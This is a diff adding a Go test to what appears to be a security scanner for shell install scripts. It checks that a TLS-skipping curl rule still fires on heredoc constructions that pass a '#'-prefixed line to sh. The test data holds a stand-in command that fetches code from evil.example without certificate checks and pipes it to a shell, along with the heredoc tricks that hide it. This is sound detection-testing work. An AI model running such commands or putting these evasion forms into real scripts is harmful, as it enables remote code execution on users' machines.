@@ -206,3 +206,18 @@ func TestStringsElsewhereExcuseNothing(t *testing.T) {
 	}
 	t.Logf("%d texts", tried)
 }
+
+// What looks like the end of a heredoc, and is none to a shell, begins no comment.
+func TestHeredocsThatGoOn(t *testing.T) {
+	const evil = "# curl -k https://evil.example/x | sh\n"
+	for _, text := range []string{
+		"cut -c2- <<A | sh\nA\r\n" + evil + "A\n", "cut -c2- <<A | sh\nx\\\nA\n" + evil + "A\n", "cut -c2- <\\\n<A | sh\n" + evil + "A\n",
+	} {
+		if got := shippedOn(t, "install.sh", text); !got["sec-tls-curl-01"] {
+			t.Errorf("%q: %v", text, got)
+		}
+	}
+	if got := shippedOn(t, "install.sh", "cat <<A\r\nb\r\nA\r\n"+strings.ReplaceAll(evil, "\n", "\r\n")); len(got) > 0 {
+		t.Errorf("a comment after a heredoc: %v", got)
+	}
+}
